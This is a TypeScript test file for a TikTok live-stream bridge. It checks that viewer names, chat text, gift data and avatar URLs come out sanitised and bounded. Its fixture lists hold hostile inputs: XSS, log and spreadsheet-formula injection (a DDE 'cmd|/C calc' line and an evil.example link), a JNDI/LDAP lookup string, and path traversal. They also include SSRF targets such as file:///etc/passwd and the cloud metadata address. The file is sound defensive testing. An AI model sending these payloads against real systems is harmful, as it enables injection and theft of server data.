import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import * as messages from '@standby/bridge/simulator/messages.ts'
import type { Simulator } from '@standby/bridge/simulator/simulator.ts'
import { journaledIds } from '../support/fixtures/journal-file.ts'
import { startBridge, type TestBridge } from '../support/peers/bridge.ts'
import { feedClient } from '../support/peers/feed-server.ts'
import { simulator } from '../support/peers/tiktok-link.ts'
import { waitFor } from '../support/wait.ts'

let tiktok: Simulator
let one: TestBridge | null = null
beforeAll(async () => void (tiktok = await simulator()))
afterEach(() => one?.kill())
afterAll(() => tiktok.close())

const MEGABYTE = 'A'.repeat(1_000_000)
const HOSTILE = [
  '<img src=x onerror=alert(1)><script>alert(1)</script>',
  'first line\r\n{"level":60,"msg":"forged"}\u2028second\u0085third',
  'a\u0000b\u0007c\u001b[31mred\u001b[0m\u009b2J',
  '\u202Ereversed\u2066isolated\u200Fmarked',
  '=HYPERLINK("http://evil.example","x")',
  '@SUM(1+9)*cmd|"/C calc"!A0',
  'Z\u0300\u0301\u0302'.repeat(2_000),
  '\ud800 alone \udfff',
  '${jndi:ldap://evil.example/a} {{7*7}} %s%n %00',
  '__proto__',
  '../../../../etc/passwd',
  MEGABYTE,
]
const ADDRESSES = [
  'file:///etc/passwd',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'http://127.0.0.1:22/',
  'http://169.254.169.254/latest/meta-data/',
  'http://[::1]/',
  `https://p16.tiktokcdn.com/${MEGABYTE}`,
]
const NUMBERS = ['9007199254740993', '-1', '9223372036854775807']

describe('Limits and attackers', () => {
  test('[SC14] what viewers write, however long and odd, reaches pages, journal and log as bounded text', async () => {
    const room = tiktok.room('ada')
    const address = { TIKTOK_WEB_URL: tiktok.url, TIKTOK_WEBCAST_URL: tiktok.url, SIGN_API_URL: tiktok.url }
    one = await startBridge({ env: { ...address, TIKTOK_USERNAME: 'ada', LOG_LEVEL: 'trace' } })
    const client = await feedClient(one.url.feed)
    await waitFor(() => client.messages.some((message) => 'state' in message && message.state.tiktok?.reconnectionState === 'CONNECTED'), {
      what: 'the connection',
      timeoutMs: 20_000,
    })
    const people = HOSTILE.map((text, n) => ({
      id: String(7e15 + n),
      uniqueId: text,
      nickname: text,
      avatarUrl: ADDRESSES[n % ADDRESSES.length] ?? '',
    }))
    for (const [n, who] of people.entries()) {
      const number = NUMBERS[n % NUMBERS.length] ?? ''
      const gift = { id: '5655', name: HOSTILE[n] ?? '', diamondCount: 2_147_483_647, type: 1 }
      room.send([
        messages.chat(room.heading(), { who, text: HOSTILE[n] ?? '' }),
        messages.gift(room.heading(), { who, gift, repeatCount: 2_147_483_647, groupId: number, repeatEnd: true }),
        messages.chat(room.heading({ createTime: number }), { who, text: `at ${number}` }),
      ])
    }
    const expected = HOSTILE.length * 3
    await waitFor(() => client.events().length >= expected, { what: 'all of it', timeoutMs: 15_000 })

    const texts: string[] = []
    const numbers: number[] = []
    JSON.stringify(client.events(), (_key, value: unknown) => {
      if (typeof value === 'string') texts.push(value)
      if (typeof value === 'number') numbers.push(value)
      return value
    })
    expect(Math.max(...texts.map((text) => text.length))).toBeLessThanOrEqual(2_048)
    expect(
      texts.filter((text) => /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/.test(text) || !text.isWellFormed()),
    ).toEqual([])
    expect(numbers.filter((value) => !Number.isSafeInteger(value) || value < 0)).toEqual([])
    expect(client.events().filter(({ at }) => Number.isNaN(new Date(at).getTime()))).toEqual([])
    const avatars = client.events().flatMap((event) => ('user' in event && event.user.avatarUrl !== null ? [event.user.avatarUrl] : []))
    expect(avatars.filter((avatar) => !/^https?:/.test(avatar))).toEqual([])
    for (const avatar of new Set(avatars)) {
      expect((await fetch(`${one.origin}/avatar?u=${encodeURIComponent(avatar)}`)).status).toBe(404)
    }
    expect(Math.max(...client.messages.map((message) => JSON.stringify(message).length))).toBeLessThan(500_000)

    await one.stop()
    expect(journaledIds(one.dataDir)).toHaveLength(expected)
    const log = readFileSync(join(one.dataDir, 'logs/standby.log'), 'utf8')
    const lines = log
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { level: number; msg: string })
    expect(lines.length).toBeGreaterThan(5)
    expect(lines.filter(({ level, msg }) => level >= 50 || msg === 'forged')).toEqual([])
    expect(log.length).toBeLessThan(500_000)
  })
})
